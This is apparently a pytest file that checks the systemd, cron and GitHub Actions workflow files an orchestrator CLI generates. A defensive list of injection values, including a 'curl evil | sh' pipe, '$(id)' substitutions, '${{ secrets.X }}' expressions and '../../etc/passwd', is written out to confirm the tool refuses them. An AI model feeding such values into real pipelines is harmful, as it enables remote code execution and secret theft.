"""What `schedule install` and `schedule export` write, checked by the tools that run it:
systemd-analyze for the units, croniter for the cron entry, actionlint for the workflow."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from croniter import croniter

from orchestrator.cli import main
from orchestrator.core.errors import UserError
from orchestrator.schedule.timers import off_the_hour_minute, remove_named, systemd_quote

PROFILES = """
profiles:
  lat:
    every: 6h            # the short form of PT6H (core.durations)
    slip: PT10M
    tests: ping
    regions: aws:us-east-1,gcp:us-east4,aws:eu-west-1
    backend: cloud
    budget_usd: 2
    budget_usd_month: 100
  thr:
    cron: "30 2 * * mon-FRI"  # names: written out as 1-5 everywhere
    slip: 2h
    regions: aws:us-east-1,aws:eu-west-1
    backend: aws
    duration: 3
    budget_usd: 5
    budget_usd_month: 100
    site: site
    publish: s3://acme-ir/site
"""


@pytest.fixture
def schedules(tmp_path) -> Path:
    path = tmp_path / "schedules.yaml"
    path.write_text(PROFILES)
    return path


def _cli(*args: str):
    out = CliRunner().invoke(main, list(args))
    assert out.exit_code == 0, out.output
    return out


def _systemd_analyze() -> str:
    tool = shutil.which("systemd-analyze")
    assert tool, "systemd-analyze is missing: 'make deb' installs the systemd package"
    return tool


@pytest.mark.parametrize("name", ["lat", "thr"])
def test_installed_units_pass_systemd_analyze_verify(tmp_path, schedules, name):
    units = tmp_path / "units"
    _cli(
        "schedule",
        "install",
        name,
        "--file",
        str(schedules),
        "--results",
        str(tmp_path / "r"),
        "--unit-dir",
        str(units),
        "--no-enable",
    )
    service, timer = units / f"interregion-{name}.service", units / f"interregion-{name}.timer"
    done = subprocess.run(
        [_systemd_analyze(), "verify", str(service), str(timer)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0 and not done.stderr.strip(), done.stderr
    text = timer.read_text()
    assert "Persistent=true" in text
    assert f"RandomizedDelaySec={600 if name == 'lat' else 7200}" in text
    calendar = text.split("OnCalendar=")[1].splitlines()[0]
    # systemd itself reads the calendar: its next elapse is one of the profile's ticks
    shown = subprocess.run(
        [_systemd_analyze(), "calendar", calendar], capture_output=True, text=True, timeout=60
    )
    assert shown.returncode == 0, shown.stderr
    assert "Next elapse" in shown.stdout
    exec_start = service.read_text().split("ExecStart=")[1].splitlines()[0]
    assert exec_start.startswith(systemd_quote(sys.executable))  # quoted when it must be
    assert f"schedule run {name}" in exec_start
    timeout = int(service.read_text().split("TimeoutStartSec=")[1].splitlines()[0])
    assert 900 < timeout < 6 * 3600


def test_systemd_calendar_matches_our_ticks(tmp_path, schedules):
    out = _cli(
        "schedule",
        "install",
        "thr",
        "--file",
        str(schedules),
        "--dry-run",
        "--unit-dir",
        str(tmp_path / "u"),
    )
    calendar = out.output.split("OnCalendar=")[1].splitlines()[0]
    assert calendar == "Mon,Tue,Wed,Thu,Fri *-*-* 02:30:00 UTC"
    shown = subprocess.run(
        [
            _systemd_analyze(),
            "calendar",
            "--iterations=3",
            "--base-time=2026-11-21 00:00:00 UTC",
            calendar,
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert shown.returncode == 0, shown.stderr
    it = croniter("30 2 * * 1-5", datetime(2026, 11, 21, tzinfo=UTC))
    for _ in range(3):
        assert it.get_next(datetime).strftime("%Y-%m-%d 02:30:00 UTC") in shown.stdout
    assert not (tmp_path / "u").exists()  # --dry-run wrote nothing


def test_remove_undoes_install(tmp_path, schedules):
    units = tmp_path / "units"
    common = ["--file", str(schedules), "--unit-dir", str(units), "--no-enable"]
    _cli("schedule", "install", "lat", *common)
    assert len(list(units.iterdir())) == 2
    _cli("schedule", "remove", "lat", *common)
    assert list(units.iterdir()) == []
    again = CliRunner().invoke(main, ["schedule", "remove", "lat", *common])
    assert again.exit_code == 2 and "not installed" in again.output


def test_remove_named_without_click(tmp_path, schedules):
    units = tmp_path / "units"
    _cli("schedule", "install", "lat", "--file", str(schedules), "--unit-dir", str(units),
         "--no-enable")  # fmt: skip
    said: list[str] = []
    with pytest.raises(UserError, match=r"a name is letters, digits"):
        remove_named(schedules, "../lat", units, cron=False, enable=False, say=said.append)
    assert len(list(units.iterdir())) == 2 and said == []
    removed = remove_named(schedules, "lat", units, cron=False, enable=False, say=said.append)
    assert said == [f"removed {p}" for p in removed] and len(removed) == 2
    assert list(units.iterdir()) == []


@pytest.mark.slow
def test_remove_finds_the_units_of_a_profile_that_left_the_file(tmp_path, schedules):
    units = tmp_path / "units"
    _cli("schedule", "install", "lat", "--file", str(schedules), "--unit-dir", str(units),
         "--no-enable")  # fmt: skip
    other = tmp_path / "other.yaml"  # the profile is gone from the file in use now
    other.write_text(schedules.read_text().replace("  lat:", "  latency-renamed:"))
    common = ["--file", str(other), "--unit-dir", str(units), "--no-enable"]
    done = CliRunner().invoke(main, ["schedule", "remove", "lat", *common])
    assert done.exit_code == 0, done.output
    assert list(units.iterdir()) == [] and done.output.count("removed ") == 2
    bad = CliRunner().invoke(main, ["schedule", "remove", "../../etc/passwd", *common])
    assert bad.exit_code == 2 and "a name is letters, digits" in bad.output


def test_cron_entry_parses(tmp_path, schedules):
    folder = tmp_path / "cron.d"
    _cli(
        "schedule", "install", "lat", "--cron", "--file", str(schedules), "--unit-dir", str(folder)
    )
    lines = [
        ln
        for ln in (folder / "interregion-lat").read_text().splitlines()
        if ln and not ln.startswith("#")
    ]
    assert len(lines) == 1
    fields = lines[0].split()
    schedule, user, command = " ".join(fields[:5]), fields[5], " ".join(fields[6:])
    assert croniter.is_valid(schedule) and schedule == "0 */6 * * *"
    assert user == "root"
    assert "schedule run lat" in command and "--wait-slip" in command
    assert "%" not in command  # cron would cut the line there
    _cli(
        "schedule", "install", "thr", "--cron", "--file", str(schedules), "--unit-dir", str(folder)
    )
    (thr,) = [
        ln for ln in (folder / "interregion-thr").read_text().splitlines() if ln[:1].isdigit()
    ]
    assert thr.startswith("30 2 * * 1-5 root ")  # the names as numbers, as every cron reads


def _actionlint() -> str:
    tool = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
    assert Path(tool).exists(), "actionlint is missing: 'make actionlint' builds it"
    return tool


@pytest.mark.parametrize(
    ("name", "extra"), [("lat", ["--state-bucket", "gs://acme-ir/state"]), ("thr", ["--pages"])]
)
def test_exported_workflow_passes_actionlint(tmp_path, schedules, name, extra):
    workflow = tmp_path / ".github" / "workflows" / f"interregion-{name}.yml"
    _cli(
        "schedule",
        "export",
        name,
        "--file",
        str(schedules),
        "--repo",
        "acme/interregion",
        "--github-actions",
        str(workflow),
        *extra,
    )
    done = subprocess.run(
        [_actionlint(), "-no-color", str(workflow)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    doc = yaml.safe_load(workflow.read_text())
    on = doc[True]  # YAML 1.1 reads the key `on` as true
    cron = on["schedule"][0]["cron"]
    assert croniter.is_valid(cron)
    minute = off_the_hour_minute(name)
    if name == "lat":  # a 10 min slip is slept out in the job
        assert cron == f"{minute} */6 * * *"
        assert "--wait-slip" in workflow.read_text()
    else:  # a 2 h slip is not: wake every hour, run in the hour drawn for the tick
        assert cron == f"{minute} * * * *"
        assert "--hourly-draw" in workflow.read_text()
    assert doc["jobs"]["sweep"]["timeout-minutes"] <= 360
    assert "workflow_dispatch" in on
    assert doc["concurrency"]["cancel-in-progress"] is False
    assert doc["permissions"]["id-token"] == "write"
    steps = doc["jobs"]["sweep"]["steps"]
    uses = [s.get("uses", "") for s in steps]
    text = workflow.read_text()
    assert "secrets." not in text  # OIDC, no stored keys
    install = next(s["run"] for s in steps if s.get("name") == "Install interregion")
    # the cloud SDKs are extras: lat runs on both clouds, thr on aws
    assert install == ("pip install '.[aws,gcp]'" if name == "lat" else "pip install '.[aws]'")
    if name == "lat":  # backend cloud: both clouds
        assert any(u.startswith("aws-actions/configure-aws-credentials") for u in uses)
        assert any(u.startswith("google-github-actions/auth") for u in uses)
        assert "repo:acme/interregion:ref:refs/heads/main" in text
        assert "gcloud storage rsync" in text
    else:
        assert doc["jobs"]["sweep"]["env"]["STATE_URL"] == "s3://acme-ir/site/results"
        assert 'aws s3 sync "$STATE_URL" "$RESULTS"' in text
        assert "deploy-pages" in text
    always = [s["name"] for s in steps if s.get("if") == "always()" and "name" in s]
    assert "Tear down and reap" in always and "Save the ledger and sweeps back" in always
    assert any(u.startswith("actions/upload-artifact") for u in uses)


@pytest.mark.parametrize(
    ("name", "extra"), [("lat", ["--state-bucket", "gs://acme-ir/state"]), ("thr", ["--pages"])]
)
def test_every_action_is_pinned_by_commit_sha_with_its_release(tmp_path, schedules, name, extra):
    workflow = tmp_path / "wf.yml"
    _cli(
        "schedule",
        "export",
        name,
        "--file",
        str(schedules),
        "--repo",
        "acme/interregion",
        "--github-actions",
        str(workflow),
        *extra,
    )
    text = workflow.read_text()
    doc = yaml.safe_load(text)
    uses = [s["uses"] for job in doc["jobs"].values() for s in job["steps"] if "uses" in s]
    lines = [line.split("uses:", 1)[1].strip() for line in text.splitlines() if "uses:" in line]
    assert len(uses) == len(lines) >= 6
    for used, line in zip(uses, lines, strict=True):
        assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", used), used
        assert re.fullmatch(re.escape(used) + r" # v\d+\.\d+\.\d+", line), line
    # the credentials actions are there for the clouds the profile reaches
    wanted = {"lat": "google-github-actions/setup-gcloud@", "thr": "actions/deploy-pages@"}
    assert any(u.startswith(wanted[name]) for u in uses)


def test_export_needs_a_bucket_to_keep_results_in(tmp_path, schedules):
    out = CliRunner().invoke(
        main,
        [
            "schedule",
            "export",
            "lat",
            "--file",
            str(schedules),
            "--repo",
            "acme/x",
            "--github-actions",
            str(tmp_path / "w.yml"),
        ],
    )
    assert out.exit_code == 2 and "--state-bucket" in out.output
    assert not (tmp_path / "w.yml").exists()


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["install", "lat", "--no-enable", "--unit-dir"], "cannot write it"),
        (["install", "lat", "--cron", "--unit-dir"], "cannot write it"),
        (
            ["export", "lat", "--repo", "o/n", "--state-bucket", "s3://bkt/p", "--github-actions"],
            "--github-actions",
        ),
    ],
)
def test_a_place_that_cannot_be_written_is_one_line(tmp_path, schedules, args, words):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    target = blocker / "x.yml" if args[0] == "export" else blocker / "units"
    result = CliRunner().invoke(main, ["schedule", *args, str(target), "--file", str(schedules)])
    assert result.exit_code == 2, result.output
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("error: ") and words in line and "cannot write it" in line
    assert blocker.read_text() == ""


# ---- hostile values never reach the workflow's text -------------------------------------

HOSTILE = [
    ("--state-bucket", 's3://acme/x"; curl evil | sh; echo "'),
    ("--state-bucket", "s3://acme/$(id)"),
    ("--state-bucket", "gs://acme/`id`"),
    ("--state-bucket", "s3://acme/${{ secrets.X }}"),
    ("--state-bucket", "s3://ACME/x"),
    ("--state-bucket", "s3://a/x"),
    ("--state-bucket", "s3://acme/../x"),
    ("--state-bucket", "s3://acme/x\nenv:\n  X: 1"),
    ("--repo", "acme/ir\non: push"),
    ("--repo", "acme/ir/x"),
    ("--repo", "-acme/ir"),
    ("--repo", "acme/.."),
    ("--repo", "acme/ir'; id"),
    ("--results", "r\nenv:"),
    ("--results", "${{ github.token }}"),
]


@pytest.mark.parametrize(("flag", "value"), HOSTILE)
def test_a_value_outside_its_grammar_never_reaches_the_workflow(tmp_path, schedules, flag, value):
    workflow = tmp_path / "wf.yml"
    args = {"--repo": "acme/ir", "--state-bucket": "s3://acme-ir/state", flag: value}
    result = CliRunner().invoke(
        main,
        [
            "schedule", "export", "lat", "--file", str(schedules),
            "--github-actions", str(workflow), *[x for kv in args.items() for x in kv],
        ],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith(f"error: {flag}") and "Traceback" not in result.output
    assert not workflow.exists()


@pytest.mark.parametrize("publish", ["s3://acme/$(id)", 's3://acme/x"; id; echo "'])
def test_a_publish_bucket_outside_its_grammar_is_refused_in_the_profile(tmp_path, publish):
    schedules = tmp_path / "schedules.yaml"
    schedules.write_text(
        "profiles:\n  p:\n    every: PT6H\n    tests: ping\n    budget_usd: 1\n"
        f"    budget_usd_month: 5\n    site: site\n    publish: '{publish}'\n"
    )
    result = CliRunner().invoke(
        main,
        [
            "schedule", "export", "p", "--file", str(schedules), "--repo", "acme/ir",
            "--github-actions", str(tmp_path / "wf.yml"),
        ],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    assert "publish:" in result.stderr and "s3://BUCKET/PREFIX" in result.stderr
    assert not (tmp_path / "wf.yml").exists()


def test_odd_but_valid_values_reach_the_workflow_quoted_and_pass_actionlint(tmp_path, schedules):
    """Values inside their grammars, with every character the grammars allow, reach the
    run: lines through env only, and actionlint (with its shellcheck) finds nothing."""
    workflow = tmp_path / "wf.yml"
    bucket = "gs://acme_ir.x-1/a=b/c+d/e@f/g.h_i-j"
    _cli(
        "schedule", "export", "lat", "--file", str(schedules), "--repo", "a-b/x.y_z-1",
        "--state-bucket", bucket + "/", "--results", "my results/$HOME 'x'",
        "--github-actions", str(workflow),
    )  # fmt: skip
    done = subprocess.run(
        [_actionlint(), "-no-color", str(workflow)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    doc = yaml.safe_load(workflow.read_text())
    env = doc["jobs"]["sweep"]["env"]
    assert env == {
        "RESULTS": "my results/$HOME 'x'",
        "SCHEDULES": "schedules.yaml",
        "STATE_URL": bucket,
    }
    runs = [s["run"] for s in doc["jobs"]["sweep"]["steps"] if "run" in s]
    assert not any(bucket in run or "my results" in run for run in runs)
    assert "repo:a-b/x.y_z-1:ref:refs/heads/main" in workflow.read_text()
